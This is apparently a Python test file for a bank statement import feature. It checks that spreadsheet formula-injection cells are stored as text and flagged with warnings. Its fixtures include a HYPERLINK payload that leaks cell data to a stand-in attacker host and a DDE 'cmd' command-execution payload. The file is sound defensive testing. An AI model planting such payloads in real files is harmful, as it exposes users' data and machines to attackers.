"""Statement cells that would run as spreadsheet formulas: imported as text, flagged."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from typing import Any

from devstack.factories.financial import create_bank_account
from financial_subgraph.bank.formula_flags import MAX_WARNINGS, formula_flags
from financial_subgraph.bank.parsing import ParsedRow

from ..conftest import GraphQL
from .conftest import (
    transactions,
)

LAYOUT = {
    "dateColumn": "Date",
    "descriptionColumn": "Text",
    "counterpartyColumn": "Payee",
    "amountColumn": "Amount",
}
IMPORT = """mutation($input: ImportBankStatementInput!) { importBankStatement(input: $input) {
  __typename
  ... on ImportBankStatementPayload { transactionIds formulaCells warnings { row field message } }
  ... on BankImportError { code message } } }"""
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")'


def row(number: int, description: str, counterparty: str | None = None) -> ParsedRow:
    return ParsedRow(number, date(2026, 3, 2), Decimal("-1.00"), description, None, counterparty)


def test_each_formula_like_text_cell_is_flagged_with_its_row_and_field() -> None:
    flags = formula_flags([row(2, "Rent"), row(3, HYPERLINK, "@evil"), row(4, "-12.50 fee")])
    assert flags.count == 3
    assert [(w.row, w.field) for w in flags.warnings] == [
        (3, "description"),
        (3, "counterparty"),
        (4, "description"),
    ]


def test_the_warnings_are_capped_but_the_count_is_not() -> None:
    flags = formula_flags([row(n, "+1") for n in range(MAX_WARNINGS + 5)])
    assert (flags.count, len(flags.warnings)) == (MAX_WARNINGS + 5, MAX_WARNINGS)


async def _import(gql: GraphQL, member: str, account_id: str, content: str) -> dict[str, Any]:
    statement = {"accountId": account_id, "format": "CSV", "content": content, "csvMapping": LAYOUT}
    body = await gql(IMPORT, bearer=member, input=statement)
    assert "errors" not in body, body
    return dict(body["data"]["importBankStatement"])


async def test_an_import_keeps_the_text_and_warns_about_it(gql: GraphQL, member: str) -> None:
    account = await create_bank_account(gql, member)
    quoted = HYPERLINK.replace('"', '""')
    content = (
        "Date,Text,Payee,Amount\n"
        f'2026-03-02,"{quoted}",Shop,-1.00\n'
        "2026-03-03,Salary,=cmd|' /C calc'!A0,2500.00\n"
        "2026-03-04,Coffee,Cafe,-3.20\n"
    )
    result = await _import(gql, member, account["id"], content)
    assert result["__typename"] == "ImportBankStatementPayload", result
    assert len(result["transactionIds"]) == 3
    assert result["formulaCells"] == 2
    assert [(w["row"], w["field"]) for w in result["warnings"]] == [
        (2, "description"),
        (3, "counterparty"),
    ]
    stored = {tx["counterparty"]: tx for tx in await transactions(gql, member)}
    assert stored["Shop"]["description"] == HYPERLINK  # the bank's text, kept as it was
    # A re-import skips the duplicates: nothing new stored, nothing new flagged.
    again = await _import(gql, member, account["id"], content)
    assert (again["transactionIds"], again["formulaCells"], again["warnings"]) == ([], 0, [])
